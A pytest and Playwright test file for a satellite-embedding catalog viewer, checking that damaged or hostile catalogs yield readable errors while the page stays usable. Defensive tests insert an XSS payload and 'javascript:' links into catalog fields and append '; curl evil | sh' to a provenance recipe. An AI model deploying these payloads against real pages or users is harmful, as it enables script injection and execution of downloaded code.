"""The viewer over catalogs that are damaged or hostile: it says so in words, and can be used all the same."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import rasterio
from playwright.sync_api import expect

from tests.browser.conftest import Serve, StartVisit
from tests.browser.stores import Catalog, Tile
from tests.browser.visit import Visit

HOSTILE = '<img src=x onerror="window.stolen = true">'


def test_a_missing_file_leaves_the_page_usable(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    lost, kept = copy.tile(2021, copy.cells[0]), copy.tile(2021, copy.cells[1])
    lost.file("embeddings").unlink()
    shown = visit()
    shown.expected.append("404")
    shown.open(serve(copy)).choose_year(2021).choose(lost.cell)
    shown.tile.get_by_role("radio", name="Similarity", exact=True).check()
    expect(shown.error).to_be_visible()
    assert "embeddings.tif" in shown.error.inner_text()
    shown.layer("Observations")
    assert shown.value(3, 4) == pytest.approx(lost.quality(1)[4, 3])
    shown.choose(kept.cell).layer("Similarity").use_pixel(40, 60).drawn("Similarity")
    assert shown.value(3, 4) == pytest.approx(kept.similarity(40, 60)[4, 3], abs=1e-4)
    expect(shown.error).to_be_hidden()


@pytest.mark.parametrize(
    ("damage", "words"),
    [
        (lambda path: path.write_bytes(path.read_bytes()[:5000]), "embeddings.tif"),
        (lambda path: path.write_bytes(b"<html>gone</html>" * 100), "embeddings.tif"),
        (lambda path: shutil.copy(path.with_name("quality.tif"), path), "64"),
    ],
    ids=["cut-off", "no-tiff", "other-bands"],
)
def test_a_file_that_is_no_embedding_is_told_in_words(
    visit: StartVisit, copy: Catalog, serve: Serve, damage: Callable[[Path], object], words: str
) -> None:
    tile = copy.tile(2021)
    damage(tile.file("embeddings"))
    shown = visit()
    shown.expected.append("416")
    shown.open(serve(copy)).choose_year(2021).choose(tile.cell)
    shown.tile.get_by_role("radio", name="Similarity", exact=True).check()
    expect(shown.error).to_be_visible()
    assert words in shown.error.inner_text()
    shown.layer("Dispersion")


def test_an_item_that_is_lost_does_not_hide_the_others(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    lost, kept = copy.tile(2021, copy.cells[0]), copy.tile(2021, copy.cells[1])
    lost.item_path.unlink()
    shown = visit()
    shown.expected.append("404")
    shown.page.goto(serve(copy))
    shown.choose_year(2021)
    expect(shown.tiles().filter(has_text=kept.cell)).to_be_visible()
    expect(shown.error).to_contain_text(lost.item_path.name)
    shown.choose(kept.cell)


def test_a_block_that_is_lost_keeps_neither_a_tile_from_being_drawn_nor_other_blocks_from_being_read(
    visit: StartVisit, copy: Catalog, serve: Serve
) -> None:
    """A name that is no block's lies anywhere, so it is looked at first of all."""
    tile = copy.tile(2021)
    superblock = tile.item_path.parents[2] / "catalog.json"
    document = json.loads(superblock.read_text())
    document["links"].append({"rel": "child", "href": "./lost/catalog.json", "title": "Block lost"})
    superblock.write_text(json.dumps(document))
    shown = visit()
    shown.expected.append("404")
    shown.open(f"{serve(copy)}#year=2021&item={tile.id}&layer=similarity").drawn("Similarity")
    expect(shown.error).to_contain_text("Block lost could not be read")
    expect(shown.tiles()).to_have_count(len(copy.cells))
    shown.settle("ready")
    again = visit()
    again.expected.append("404")
    again.open(f"{shown.page.url.partition('#')[0]}#year=2021")
    expect(again.tiles()).to_have_count(len(copy.cells))
    expect(again.error).to_contain_text("Block lost could not be read")
    (superblock.parent / "lost").mkdir()
    (superblock.parent / "lost" / "catalog.json").write_text(
        json.dumps({"type": "Catalog", "stac_version": "1.1.0", "id": "lost", "description": "Found.", "links": []})
    )
    again.error.get_by_role("button", name="Try again").click()
    expect(again.page.get_by_role("list", name="Blocks")).to_have_count(0)
    expect(again.error).to_be_hidden()


def test_a_year_that_is_lost_is_named(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    """It is another thing than a cell that has no other year."""
    tile, lost = copy.tile(2021), copy.tile(2022)
    kept = lost.item_path.read_bytes()
    lost.item_path.unlink()
    shown = visit()
    shown.expected.append("404")
    shown.open(serve(copy)).choose_year(2021).choose(tile.cell)
    expect(shown.error).to_contain_text(f"{tile.cell} of 2022 could not be read")
    change = shown.tile.get_by_role("radio", name="Change", exact=True)
    expect(change).to_be_enabled()
    change.check()
    shown.settle("error")
    expect(shown.error).to_contain_text(f"{tile.cell} of 2022 could not be read")
    expect(shown.error).not_to_contain_text("no other year")
    lost.item_path.write_bytes(kept)
    shown.error.get_by_role("button", name="Try again").last.click()
    shown.drawn("Change")
    expect(shown.error).to_be_hidden()
    assert shown.value(12, 34) == pytest.approx(tile.change(lost)[34, 12], abs=1e-4)


def test_a_cell_without_another_year_says_so(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    tile = copy.tile(2021)
    block = copy.tile(2022).item_path.parents[1] / "catalog.json"
    document = json.loads(block.read_text())
    document["links"] = [link for link in document["links"] if link["rel"] != "item"]
    block.write_text(json.dumps(document))
    shown = visit().open(f"{serve(copy)}#year=2021&item={tile.id}")
    expect(shown.tile.get_by_role("radio", name="Change", exact=True)).to_be_disabled()
    expect(shown.tile).to_contain_text("there is no other year of this cell")


def test_a_hole_is_no_end_of_similarity(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    tile = copy.tile(2021)
    middle = punch(tile, slice(70, 100), slice(60, 110))
    shown = visit()
    shown.open(f"{serve(copy)}#year=2021&item={tile.id}&layer=similarity").drawn("Similarity")
    fields = [shown.page.get_by_role("spinbutton", name=name, exact=True) for name in ("Column", "Row")]
    column, row = (int(field.input_value()) for field in fields)
    rows, columns = np.nonzero(tile.vectors.any(axis=-1))
    distance = np.hypot(columns - middle[0], rows - middle[1])
    assert np.hypot(column - middle[0], row - middle[1]) == pytest.approx(distance.min())
    assert shown.value(column, row) == pytest.approx(1.0, abs=1e-4)
    shown.page.get_by_role("spinbutton", name="Column", exact=True).fill("84")
    shown.page.get_by_role("spinbutton", name="Row", exact=True).fill("84")
    shown.page.get_by_role("button", name="Use this pixel").click()
    shown.settle("error")
    expect(shown.error).to_contain_text("no embedding at column 84, row 84")
    click_beside_the_hole(shown, tile)


def test_a_view_that_begins_in_a_hole_can_be_gone_on_with(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    tile = copy.tile(2021)
    punch(tile, slice(70, 100), slice(60, 110))
    shown = visit()
    shown.page.goto(f"{serve(copy)}#year=2021&item={tile.id}&layer=similarity&pixel=84,84")
    shown.settle("error")
    expect(shown.error).to_contain_text("no embedding at column 84, row 84")
    expect(shown.map).to_have_attribute("data-layer-shown", "pca")
    expect(shown.page.locator("#legend")).to_contain_text("PCA preview")
    click_beside_the_hole(shown, tile)


def test_cells_without_a_product_are_those_of_all_blocks(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    tile = copy.tile(2021)
    superblock = tile.item_path.parents[2]
    document = json.loads((superblock / "catalog.json").read_text())
    for name, cells in (("sea", ["1U_1R"]), ("ice", [f"{number}U_2R" for number in range(300)])):
        document["links"].append({"rel": "child", "href": f"./{name}/catalog.json", "title": f"Block {name}"})
        empty = [{"cell": cell, "reason": f"all {name}"} for cell in cells]
        (superblock / name).mkdir()
        block = {"type": "Catalog", "stac_version": "1.1.0", "id": name, "links": [], "betaearth:empty": empty}
        (superblock / name / "catalog.json").write_text(json.dumps(block))
    (superblock / "catalog.json").write_text(json.dumps(document))
    shown = visit().open(f"{serve(copy)}#year=2021")
    told = shown.page.get_by_text("Cells without a product: 301")
    told.click()
    expect(shown.page.get_by_text("0U_2R: all ice", exact=True)).to_be_visible()
    expect(shown.page.get_by_text("The first 256 of 301 cells are listed.")).to_be_visible()
    shown.choose_year(2022)
    expect(told).to_be_hidden()


def test_a_recipe_that_does_more_than_run_betaearth_is_not_handed_on(
    visit: StartVisit, copy: Catalog, serve: Serve
) -> None:
    good, bad = copy.tile(2021, copy.cells[0]), copy.tile(2021, copy.cells[1])
    document = json.loads(bad.item_path.read_text())
    recipe = document["properties"]["betaearth:provenance"]["reproduce"]
    document["properties"]["betaearth:provenance"]["reproduce"] = f"{recipe}; curl evil | sh"
    bad.item_path.write_text(json.dumps(document))
    shown = visit().open(serve(copy)).choose_year(2021).choose(bad.cell)
    said = shown.page.get_by_role("region", name="Provenance")
    expect(said).to_contain_text("it is not shown")
    expect(said).not_to_contain_text("curl evil")
    shown.choose(good.cell)
    said.get_by_text("as the catalog gives it").click()
    expect(said).to_contain_text(good.item["properties"]["betaearth:provenance"]["reproduce"])


@pytest.mark.parametrize("text", ["<html>no catalog</html>", '{"type": "Catalog"', '{"answer": 42}'])
def test_a_catalog_that_is_none_is_told_in_words(visit: StartVisit, copy: Catalog, serve: Serve, text: str) -> None:
    (copy.folder / "catalog.json").write_text(text)
    shown = visit()
    shown.page.goto(serve(copy))
    expect(shown.error).to_contain_text("catalog.json")
    shown.settle("error")


def test_a_catalog_s_text_is_text(visit: StartVisit, copy: Catalog, serve: Serve) -> None:
    """Titles, reasons and addresses are a stranger's: nothing of them becomes a part of the page."""
    tile = copy.tile(2021)
    for path in [copy.folder / "catalog.json", *copy.folder.rglob("collection.json"), tile.item_path]:
        path.write_text(json.dumps(spoilt(json.loads(path.read_text()))))
    shown = visit()
    shown.open(serve(copy)).choose_year(2021)
    expect(shown.page.get_by_role("heading", level=1)).to_have_text(HOSTILE)
    shown.choose(tile.cell).layer("Similarity")
    expect(shown.page.get_by_role("region", name="Provenance")).to_contain_text(HOSTILE)
    assert shown.page.evaluate("window.stolen") is None
    assert shown.page.locator("img[src=x]").count() == 0
    addresses = shown.page.eval_on_selector_all("a", "links => links.map(link => link.href)")
    assert addresses
    assert not [address for address in addresses if not address.startswith(("http://", "https://"))]


def punch(tile: Tile, rows: slice, columns: slice) -> tuple[int, int]:
    """Take a part of an embedding away; returns column and row of the tile's middle, which has to lie in it."""
    with rasterio.open(tile.file("embeddings"), "r+", IGNORE_COG_LAYOUT_BREAK="YES") as file:
        data = file.read()
        data[:, rows, columns] = file.nodata
        file.write(data)
        middle = file.width // 2, file.height // 2
    assert columns.start <= middle[0] < columns.stop
    assert rows.start <= middle[1] < rows.stop
    return middle


def click_beside_the_hole(shown: Visit, tile: Tile) -> None:
    """Choose a pixel on the map, away from the middle: similarity is to it, and still of this tile."""
    box = shown.map.bounding_box()
    assert box is not None
    shown.map.click(position={"x": box["width"] / 2, "y": box["height"] * 0.2})
    shown.drawn("Similarity")
    expect(shown.tile.get_by_role("heading", name=tile.cell)).to_be_visible()
    names = ("Column", "Row")
    column, row = (int(shown.page.get_by_role("spinbutton", name=name, exact=True).input_value()) for name in names)
    assert row < 70
    assert shown.value(20, 20) == pytest.approx(tile.similarity(column, row)[20, 20], abs=1e-4)


def spoilt(document: dict[str, Any]) -> dict[str, Any]:
    """Put markup into every text that people read, and a program behind every link that they may follow."""
    document |= {"title": HOSTILE, "description": HOSTILE}
    if "properties" in document:
        properties = document["properties"]
        properties["title"] = properties["processing:lineage"] = HOSTILE
        properties["betaearth:provenance"]["source"] = HOSTILE
        properties["betaearth:model"]["variant"] = HOSTILE
        for rejected in properties["betaearth:observations"]["granules"]["rejected"]:
            rejected["reason"] = HOSTILE
        for link in document["links"]:
            link["title"] = HOSTILE
            if link["rel"] not in {"root", "parent", "collection", "self"}:
                link["href"] = "javascript:window.stolen=true"
        document["assets"]["thumbnail"]["title"] = HOSTILE
    if "providers" in document:
        document["providers"] = [{"name": HOSTILE, "url": "javascript:window.stolen=true", "roles": ["host"]}]
    return document
